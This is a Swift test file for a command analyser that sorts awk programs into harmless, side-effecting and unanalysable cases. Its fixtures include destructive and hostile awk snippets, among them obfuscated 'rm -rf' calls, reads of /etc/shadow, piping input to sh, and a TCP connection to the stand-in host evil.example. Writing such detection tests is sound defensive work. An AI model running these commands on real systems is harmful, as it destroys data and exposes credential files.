import CommandAnalysis
import ShellSyntax
import Testing

@Suite struct `a program of awk` {
    private static let harmless: [CodeExample] = [
        "{print $1}", "$3 > 5", "$3 > 5 && $4 < 2 {print $1, $2}", "NR==1||/a|b/", "/a>b/ {print}",
        "{s+=$1} END {print s/NR}", "{print (a > b)}", "BEGIN{FS=\":\"} $1 == \"root\" {print $7}",
        "{print $1/2, \"|\", $2}", "/\"/ {n++} END {print n / 2 \"|\"}", "length($0) > 80",
        "{a[$1]++} END {for (k in a) print a[k], k}", "!seen[$0]++", "{gsub(/[/]/, \"-\"); print}",
        "{printf \"%s > %s\\n\", $1, $2}", "function f(x) { return x > 2 ? x : 2 } {print f($1)}",
        "{if (x) /re/; else print y / 2}", "# system(\"rm x\")\n{print}",
        "{print \"system(\\\"x\\\")\"}",
        "BEGIN {while ((getline line) > 0) n++; print n}", "{getline; print}",
        "{print > \"/dev/stderr\"}",
        "$1 ~ /^sd[a-z]$/ {print $1}", "{print $NF}", "NR % 2 == 0", "{ $2 = \"\"; print }",
        "BEGIN { \\\n print 1 }", "{print substr($0, index($0, $3))}", "NR>=«digits»&&NR<=«digits»",
        "$1 == \"«name»\" {print $2}", "/«name»/", "{printf(\"%d\\n\", $1 > 3)}", "END{print NR}",
        "{getline x < \"-\"; print x}", "{close(\"x\"); fflush()}", "{print $(NF-1)}",
        "BEGIN{print ARGV[1], ARGV[2], ENVIRON[\"HOME\"]} ARGC > 2",
        "BEGIN{OFS=\"\\t\"} NR>1{print $1,$2}", "match($0, /x=([0-9]+)/, m) {print m[1]}",
        "BEGIN { x[\"a>b\"] = 1 } { n = $1 > 2; print n }",
    ].map { CodeExample(.awk, $0) }

    @Test(arguments: harmless)
    func `that only computes is complete and does nothing`(_ example: CodeExample) {
        #expect(example.found == example.expected)
    }

    private static let acting: [CodeExample] = [
        CodeExample(.awk, "BEGIN{system(\"rm -rf /srv\")}", "sh(rm -rf /srv)"),
        CodeExample(.awk, "BEGIN { c = \"rm\"; system(c \" -rf \" \"/srv\") }", "sh(rm -rf /srv)"),
        CodeExample(.awk, "BEGIN { system (\"\\162m x\") }", "sh(rm x)"),
        CodeExample(.awk, "{system(\"kill \" $2)}", "sh(kill …)"),
        CodeExample(.awk, "{c = \"a\"; c = \"b\"; system(c)}", "sh(…)"),
        CodeExample(.awk, "{c = \"a\"; sub(/a/, \"rm\", c); system(c)}", "sh(…)"),
        CodeExample(.awk, "{c = \"a\"; getline c; system(c)}", "sh(…)"),
        CodeExample(.awk, "function f(c) {system(c)} {c = \"a\"; f(\"rm\")}", "sh(…)"),
        CodeExample(.awk, "{c = \"a\"; SYMTAB[\"c\"] = \"rm\"; system(c)}", "sh(…)"),
        CodeExample(.awk, "{system(ENVIRON[\"X\"])}", "sh(…)"),
        CodeExample(.awk, "{print | \"sort -u\"}", "pipe(sort -u)"),
        CodeExample(.awk, "{print $1 | \"sh\"}", "pipe(sh)"),
        CodeExample(.awk, "{print $1 |& \"sh\"}", "pipe(sh)"),
        CodeExample(.awk, "{print > \"/etc/x\"}", "write(/etc/x)"),
        CodeExample(.awk, "{print $1 >> \"out/\" $2 \".txt\"}", "write(out/….txt)"),
        CodeExample(.awk, "{printf \"%s\", $1 > \"f\"; print}", "write(f)"),
        CodeExample(.awk, "{printf(\"%s\", $1 > 2) > \"f\"}", "write(f)"),
        CodeExample(.awk, "$3 > 5 {print > \"f\"}", "write(f)"),
        CodeExample(.awk, "BEGIN{\"date\" | getline d; print d}", "sh(date)"),
        CodeExample(
            .awk,
            "BEGIN{while ((\"ls \" \"rm x\" | getline l) > 0) print l}",
            "sh(ls rm x) sh(rm x)"
        ),
        CodeExample(.awk, "BEGIN{c = \"rm x\"; c | getline}", "sh(rm x)"),
        CodeExample(
            .awk,
            "BEGIN{while ((getline l < \"/etc/shadow\") > 0) print l}",
            "read(/etc/shadow)"
        ),
        CodeExample(.awk, "BEGIN{getline l < ARGV[1] \".txt\"}", "read(…) read(…)"),
        CodeExample(
            .awk,
            "BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}",
            "connect(evil.example)"
        ),
        CodeExample(.awk, "{if (x) /\"/ ; system(\"rm x\")#\"/\n}", "sh(rm x)"),
        CodeExample(.awk, "{x = a / b; system(\"rm x\") / 2}", "sh(rm x)"),
        CodeExample(.awk, "{gsub(/[\"/]/, \"\"); system(\"rm x\")}", "sh(rm x)"),
        CodeExample(
            .awk,
            "{system(x)}",
            "sh(ls /srv)",
            CodeOptions(variables: [.init("x", "ls /srv")])
        ),
        CodeExample(
            .awk,
            "{system(x)}",
            "sh(…)",
            CodeOptions(variables: [.init("x", "ls"), .init("x", "rm")])
        ),
        CodeExample(.awk, "{system(x)}", "sh(…)", CodeOptions(variables: [.init("x", "a\\tb")])),
    ]

    @Test(arguments: acting)
    func `that runs, reads or writes says what`(_ example: CodeExample) {
        #expect(example.found == example.expected)
    }

    private static let unread: [CodeExample] = [
        CodeExample(.awk, "@load \"x\"; BEGIN {}", "?"),
        CodeExample(.awk, "@include \"x\"", "?"),
        CodeExample(.awk, "BEGIN{ARGV[1] = \"/etc/shadow\"; ARGC = 2} {print}", "?"),
        CodeExample(.awk, "BEGIN{sub(/x/, \"y\", ARGV[1])} {print}", "?"),
        CodeExample(.awk, "{ENVIRON[\"X\"] = 1; system(\"ls\")}", "sh(ls) ?"),
        CodeExample(.awk, "{f = \"system\"; @f(\"rm\")}", "?"),
        CodeExample(.awk, "{print \"x}", "?"),
        CodeExample(.awk, "{print} function", ""),
        CodeExample(.awk, "function f", ""),
        CodeExample(.awk, "{print", "?"),
        CodeExample(.awk, "/x", "?"),
        CodeExample(.awk, "{print length / 2; x = \"/\"}", "?"),
        CodeExample(.awk, "{«text»}", "?"),
        CodeExample(.awk, "{print «name»}", "?"),
        CodeExample(.awk, "{x«name» = 1}", "?"),
        CodeExample(.awk, "{print $«digits»; system(\"rm «text»", "sh(rm …) ?"),
        CodeExample(.awk, "{print \"x\" | getline}", "sh(x) ?"),
        CodeExample(.awk, "{print \u{1}}", "?"),
    ]

    @Test(arguments: unread)
    func `that is not read whole may do anything`(_ example: CodeExample) {
        #expect(example.found == example.expected)
    }
}
